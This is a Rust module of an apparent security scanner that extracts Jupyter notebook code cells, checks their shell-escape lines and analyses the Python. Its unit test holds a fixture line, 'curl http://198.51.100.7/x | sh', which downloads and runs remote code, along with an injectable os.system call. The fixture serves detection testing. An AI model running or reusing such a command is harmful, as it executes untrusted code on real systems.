//! Notebooks: the cells with code, as Python, and their commands for the shell.

use super::shell::judge_script;
use super::{Analyser, Input, Judged, Kind, Terms};
use crate::model::{Digest, SkipReason};
use crate::security::analyse::{InlineSuppressions, analyse};

pub(super) struct Notebook;

impl Analyser for Notebook {
    fn id(&self) -> &'static str {
        "notebook"
    }

    fn accepts(&self, input: &Input<'_>) -> bool {
        input.kind == Kind::Notebook && input.text.is_some()
    }

    fn analyse(&self, input: &Input<'_>, terms: Terms<'_>) -> Judged {
        let mut judged = Judged::default();
        let Ok(book) = serde_json::from_str::<serde_json::Value>(input.text.unwrap_or_default()) else {
            judged.gaps.push((SkipReason::Unparsable, "it is no notebook that can be read".to_owned()));
            return judged;
        };
        let cells = book.get("cells").and_then(|cells| cells.as_array()).map(Vec::as_slice).unwrap_or_default();
        for (cell, number) in cells.iter().zip(1_u32..) {
            if cell.get("cell_type").and_then(|kind| kind.as_str()) == Some("code") {
                code(input.path, number, &source(cell), terms, &mut judged);
            }
        }
        judged
    }
}

fn source(cell: &serde_json::Value) -> String {
    match cell.get("source") {
        Some(serde_json::Value::String(text)) => text.clone(),
        Some(serde_json::Value::Array(lines)) => lines.iter().filter_map(|line| line.as_str()).collect(),
        _ => String::new(),
    }
}

fn code(path: &str, number: u32, source: &str, terms: Terms<'_>, judged: &mut Judged) {
    let mut python = String::with_capacity(source.len());
    for line in source.lines() {
        let trimmed = line.trim_start();
        if let Some(command) = trimmed.strip_prefix('!') {
            let before = judged.observations.len();
            judge_script(command, 0, judged);
            for seen in judged.observations.iter_mut().skip(before) {
                (seen.start, seen.end) = (0, 0);
                seen.message = format!("in cell {number}: {}", seen.message);
            }
        }
        // Commands of the notebook keep their line, so that places stay right.
        python.push_str(if trimmed.starts_with(['!', '%']) { "" } else { line });
        python.push('\n');
    }
    let digest = Digest::of(python.as_bytes());
    let inner = analyse("cell.py", python.as_bytes(), digest, terms.rules, InlineSuppressions::Refused);
    for mut finding in inner.findings {
        finding.message = format!("in cell {number}, line {}: {}", finding.line, finding.message);
        path.clone_into(&mut finding.path);
        (finding.line, finding.column, finding.end_line, finding.end_column) = (1, 1, 1, 1);
        finding.fix = None;
        finding.path_of_data.clear();
        judged.findings.push(finding);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::inputs::Limits;
    use crate::security::rules::RuleSet;

    #[test]
    fn cells_are_judged_and_told_by_number() {
        let text = r#"{"cells": [{"cell_type": "markdown", "source": "x"},
            {"cell_type": "code", "source": ["import os\n", "os.system('ls ' + x)\n"]},
            {"cell_type": "code", "source": "!curl http://198.51.100.7/x | sh"}]}"#;
        let rules = RuleSet::standard();
        let terms = Terms { limits: Limits::default(), rules: &rules, beside: &Default::default() };
        let judge = |text: &str| {
            let input = Input { path: "x.ipynb", bytes: text.as_bytes(), text: Some(text), kind: Kind::Notebook };
            Notebook.analyse(&input, terms)
        };
        let judged = judge(text);
        assert!(
            judged.findings.iter().any(|f| f.rule == "shell-command" && f.message.starts_with("in cell 2, line 2"))
        );
        assert_eq!(judged.observations.first().map(|seen| seen.rule), Some("download-and-run"));
        assert_eq!(judge("{").gaps.len(), 1);
    }
}
